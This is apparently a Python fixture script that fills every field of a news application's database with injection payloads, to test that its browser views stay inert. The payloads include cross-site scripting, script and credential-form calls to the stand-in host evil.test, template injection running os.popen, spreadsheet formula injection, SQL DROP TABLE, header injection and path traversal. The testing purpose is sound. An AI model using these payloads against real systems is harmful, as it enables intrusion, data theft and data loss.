"""A news.db whose every outlet, concept, article, revision and rejection tries to act in its reader's browser.

One article for each attack, which stands in every field of it. What would run sets `window.canary`.
"""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

from db.connection import open_news
from db.model.article import Article, Place
from db.model.times import moment
from db.model.verdict import Because, Mention, Verdict
from db.news.articles import save_article

RUN = "top.canary=1;alert(1)"
EVIL = "https://evil.test"
ATTACKS = [
    f"<script>{RUN}</script>",
    f'"><script src="{EVIL}/x.js"></script>',
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></select></noscript></template><script>{RUN}</script>",
    f"--><!--><script>{RUN}</script><!--",
    f"<!--[if true]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<img src=x onerror="{RUN}">',
    f"\"><img src='{EVIL}/pixel.gif' onload={RUN}>",
    f"' autofocus tabindex=0 onfocus='{RUN}' x='",
    f'" style="background:url({EVIL}/b.png)" onmouseover="{RUN}',
    f"` onmouseover=`{RUN}`",
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><script href='{EVIL}/x.js'/><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<a href="javascript:{RUN}" target=_blank>China</a> [x](javascript:{RUN})',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe><object data="javascript:{RUN}"></object>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/"><base href="{EVIL}/">',
    f'<link rel=stylesheet href="{EVIL}/x.css"><style>@import "{EVIL}/y.css"; * {{background:url({EVIL}/z)}}</style>',
    f'<form action="{EVIL}/take"><input name=password autofocus onfocus={RUN}><button formaction="{EVIL}">Log in',
    f"<video><source onerror={RUN}></video><details open ontoggle={RUN}><marquee onstart={RUN}>",
    "{{7*7}} ${7*7} #{7*7} {%% print(7*7) %%} {{ config.items() }} {{''.__class__.__mro__}}",
    "{% include '/etc/passwd' %}{# comment #}{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62; &#x3c;img src=x onerror={RUN}&#x3e;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e \\x3cscript\\x3e",
    f"＜script＞{RUN}＜/script＞ ‹script›{RUN}",
    f"China\x00<scr\x00ipt>{RUN}</script>",
    f"China\r\nSet-Cookie: taken=1\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>",
    f"China\u2028</p><script>{RUN}</script>\u2029\x0b\x0c\x1b[2J\x07",
    "\u202eaníhC y úreP\u202c \u2066\u2067\u2068 \u200f\u061c משרד المرفأ China",
    "Z̸̡̛̰͚̼͗̏̈́͊a̵͕̍l̷̛͇g̶̺͠o̷͎͝ " + "a\u0300\u0301\u0302\u0303\u0304" * 60 + " China",
    "China" + "x" * 10_000,
    "中" * 4_000 + "👩‍👩‍👧‍👦" * 200,
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "-2+3+cmd|' /c calc'!D2",
    f'=HYPERLINK("{EVIL}?x="&A1,"China")',
    f"' OR 1=1; DROP TABLE articles; -- \"); {RUN}//",
    "../../../../etc/passwd %2e%2e%2f %00 %0d%0a",
    f"https://evil.test/ javascript:{RUN} data:text/html,<script>{RUN}</script>",
    "\ufeff\ufffe\ufdd0 \u200b\u200d\u2060 \u00ad \ue000 \U000e0041\U000e0042 China",
]
ADDRESSES = [
    f"javascript:{RUN}//https://a.test/",
    f"JaVaScRiPt:{RUN}",
    f" \tjava\nscript:{RUN}",
    f"data:text/html;base64,PHNjcmlwdD4={RUN}",
    f"vbscript:{RUN}",
    "//evil.test/protocol-relative",
    "\\\\evil.test\\share",
    f'https://a.test/"onmouseover="{RUN}" x="',
    f"https://a.test/'><script>{RUN}</script>",
    "https://a.test/\r\nSet-Cookie: taken=1",
    "https://user:secret@a.test/x",
    "https://a.test/" + "x" * 5_000,
    "https://[::1/broken",
    "file:///etc/passwd",
    "https://a.test/{{7*7}}?a=1&b=<svg onload=1>#</title>",
    "http://\u202eakihc.test/",
]
LONGEST = 1_500  # characters of an attack outside of headline and text: Chromium takes seconds to lay out all of them
SEEN = "2026-11-20T10:00:00Z"


def attacked(number: int) -> str:
    """The headline of an article: the attack, and a number to tell it from others."""
    return f"{ATTACKS[number]} №{number}"


def build(path: Path) -> Path:
    """Write it; ids of articles are 1 + the number of the attack."""
    db = open_news(path)
    for number, attack in enumerate(it[:LONGEST] for it in ATTACKS):
        address = ADDRESSES[number % len(ADDRESSES)]
        db.table("outlets").insert(
            {"id": f"outlet-{number}", "name": f"{attack} outlet", "home": address, "ownership_source": address}
            | {"country": attack[:40] if number % 3 else "PE", "languages": "es", "kind": attack[:60]}
            | {"ownership": ("state", "private", attack[:60])[number % 3]}
        )
        db.table("concepts").insert(
            {"id": f"concept-{number}", "kind": attack[:60], "side": "a"}
            | {"name_en": f"{attack} concept", "name_es": attack, "name_zh": attack}
        )
    for number, attack in enumerate(it[:LONGEST] for it in ATTACKS):
        whole = ATTACKS[number]
        for text in (f"Antes: {attack}\nChina y Perú: {whole}.", f"{attack}\nChina y Perú firman. {whole}\n{attack}"):
            save_article(
                db, article(number, text), seen_at=moment(SEEN), place=Place(file=f"{attack[:80]}.gz", offset=1)
            )
        db.execute(
            """
            UPDATE articles SET url = :url, archive_file = :attack, credited_to = :attack, published_local = :attack,
                copy_kind = :attack, original = :original WHERE id = :id
            """,
            {
                "url": f"{ADDRESSES[number % len(ADDRESSES)]}#{number}",
                "attack": attack,
                "original": number if number % 5 == 4 else None,
                "id": number + 1,
            },
        )
        db.table("rejections").insert(
            {
                "url": f"{ADDRESSES[number % len(ADDRESSES)]}?r={number}",
                "key": f"r{number}",
                "outlet": f"outlet-{number}",
            }
            | {"reason": "off-topic", "relevance": 0.3, "title": attack, "detail": attack, "seen_at": SEEN}
        )
        db.table("crawls").insert(
            {"outlet": f"outlet-{number}", "started": SEEN, "finished": SEEN, "outcome": f"failed: {attack}"}
        )
    db.close()
    return path


def article(number: int, text: str) -> Article:
    """An article that carries an attack in every field."""
    attack = ATTACKS[number][:LONGEST]
    return Article(
        url=f"https://a.test/{number}", key=f"a.test/{number}", outlet=f"outlet-{number}", title=attacked(number),
        text=text, language=("es", "zh", "en", attack[:20])[number % 4], authors=(attack, f"Ana {attack}"),
        published=f"2026-11-20T{number % 24:02}:00:00Z", published_precision="time", published_from="page",
        relevance=0.9, verdict=Verdict.RELEVANT, image=f"{EVIL}/pixel.gif?{number}", section=attack, tags=(attack,),
        reasons=(Because(sentence=attack, concepts=(f"concept-{number}", attack), place="lead", weight=0.5),),
        mentions=(Mention(concept=f"concept-{number}", count=3, in_title=True),),
        credited_to=attack, words=9,
    )  # fmt: skip


if __name__ == "__main__":
    import sys

    made = build(Path(sys.argv[1]))
    with sqlite3.connect(made) as connection:
        print(json.dumps(connection.execute("SELECT count(*), count(DISTINCT title) FROM articles").fetchone()))
